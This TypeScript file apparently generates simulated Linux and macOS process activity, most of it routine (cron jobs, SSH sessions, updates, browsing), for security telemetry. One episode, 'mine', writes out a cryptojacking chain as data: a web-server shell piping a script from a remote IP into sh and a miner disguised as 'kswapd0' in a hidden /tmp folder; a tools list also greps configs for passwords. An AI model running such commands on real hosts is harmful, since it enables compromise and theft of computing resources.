import type { Stage } from './stage.ts';
import type { Episode } from './windows-episodes.ts';

const minute = 60_000;
const root = { username: 'root', sid: '' };

export const linuxEpisodes: readonly Episode[] = [
  { weight: 10, play: runJobs },
  { weight: 8, play: logIn },
  {
    weight: 3,
    play: (stage) =>
      void stage.run(
        stage.parent('systemd'),
        '/usr/bin/systemd-tmpfiles',
        '/usr/bin/systemd-tmpfiles --clean',
        { account: root },
      ),
  },
  { weight: 2, play: update },
  { weight: 0.4, play: mine },
];

export const macEpisodes: readonly Episode[] = [
  {
    weight: 10,
    play: (stage) => {
      const path =
        '/System/Library/Frameworks/CoreServices.framework/Frameworks/Metadata.framework/Versions/A/Support/mdworker_shared';
      stage.run(
        stage.parent('launchd'),
        path,
        `${path} -s mdworker -c MDSImporterWorker -m com.apple.mdworker.shared`,
        { account: stage.host.person, lasts: stage.pause(5 * minute) },
      );
    },
  },
  { weight: 4, play: surf },
  { weight: 5, play: work },
  {
    weight: 1,
    play: (stage) =>
      void stage.run(
        stage.parent('launchd'),
        '/usr/libexec/softwareupdated',
        '/usr/libexec/softwareupdated',
        { account: root, lasts: 10 * minute },
      ),
  },
];

function runJobs(stage: Stage): void {
  const { random } = stage;
  const cron = stage.run(stage.parent('crond'), '/usr/sbin/crond', '/usr/sbin/crond -n', {
    account: root,
    lasts: minute,
  });
  const shell = stage.run(cron, '/usr/bin/bash', '/bin/bash -c run-parts /etc/cron.hourly', {
    after: 9,
    lasts: minute,
  });
  stage.run(shell, '/usr/bin/run-parts', '/bin/bash /bin/run-parts /etc/cron.hourly', {
    after: 12,
    lasts: minute,
  });
  if (random.chance(0.4)) {
    stage.run(
      shell,
      '/usr/sbin/logrotate',
      '/usr/sbin/logrotate -s /var/lib/logrotate/logrotate.status /etc/logrotate.conf',
    );
  }
}

const tools: readonly string[] = [
  '/usr/bin/ls -la --color=auto',
  '/usr/bin/ps aux',
  '/usr/bin/cat /etc/passwd',
  '/usr/bin/df -h',
  '/usr/bin/tail -n 200 /var/log/messages',
  '/usr/bin/grep -r password /etc/nginx',
  '/usr/bin/curl -sS https://registry.example.net/health',
  '/usr/bin/python3 /opt/jobs/report.py --day yesterday',
  '/usr/bin/id',
];

function logIn(stage: Stage): void {
  const { random, host } = stage;
  const session = stage.run(stage.parent('sshd'), '/usr/sbin/sshd', `sshd: ${host.user} [priv]`, {
    account: root,
    lasts: stage.pause(2 * 3600_000),
  });
  const shell = stage.run(session, '/usr/bin/bash', '-bash', {
    account: host.person,
    lasts: stage.pause(2 * 3600_000),
    slices: random.pick([1, 1, 2]),
  });
  for (let count = random.int(1, 6); count > 0; count -= 1) {
    const line = random.pick(tools);
    const [path = ''] = line.split(' ');
    stage.run(shell, path, line.slice(path.lastIndexOf('/') + 1), { lasts: stage.pause(3000) });
  }
}

function update(stage: Stage): void {
  const shell = stage.run(stage.parent('crond'), '/usr/bin/bash', '/bin/sh -c yum -y -q update', {
    account: root,
    lasts: 4 * minute,
  });
  stage.run(shell, '/usr/bin/yum', '/usr/bin/python3 /usr/bin/yum -y -q update', {
    after: 20,
    lasts: 3 * minute,
  });
}

function mine(stage: Stage): void {
  const nobody = { username: 'nginx', sid: '' };
  const shell = stage.run(
    stage.parent('nginx'),
    '/usr/bin/bash',
    `sh -c curl -fsSL http://198.51.100.222/${stage.random.hex(4)}.sh | sh`,
    { account: nobody, lasts: minute },
  );
  stage.run(shell, '/usr/bin/curl', 'curl -fsSL http://198.51.100.222/x.sh', { account: nobody });
  stage.run(shell, '/tmp/.X11-unix/.x/kswapd0', './kswapd0 -o stratum+tcp://pool.example.invalid:3333 -p x', {
    account: nobody,
    lasts: 9 * 3600_000,
    slices: 2,
  });
}

function surf(stage: Stage): void {
  const path =
    '/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.WebContent.xpc/Contents/MacOS/com.apple.WebKit.WebContent';
  for (let tabs = stage.random.int(1, 3); tabs > 0; tabs -= 1) {
    stage.run(stage.parent('launchd'), path, path, {
      account: stage.host.person,
      lasts: stage.pause(3600_000),
    });
  }
}

const macTools: readonly string[] = [
  '/usr/bin/git status --porcelain',
  '/usr/bin/git fetch origin',
  '/usr/bin/ssh build-01.corp.northwind-lab.example',
  '/bin/ls -G',
  '/usr/bin/python3 -m http.server 8000',
  '/usr/bin/curl -O https://mirror.example.org/tool.pkg',
];

function work(stage: Stage): void {
  const shell = stage.run(stage.parent('login') ?? stage.parent('terminal'), '/bin/zsh', '-zsh', {
    account: stage.host.person,
    lasts: stage.pause(2 * 3600_000),
  });
  for (let count = stage.random.int(1, 5); count > 0; count -= 1) {
    const line = stage.random.pick(macTools);
    const [path = ''] = line.split(' ');
    stage.run(shell, path, line.slice(path.lastIndexOf('/') + 1));
  }
}
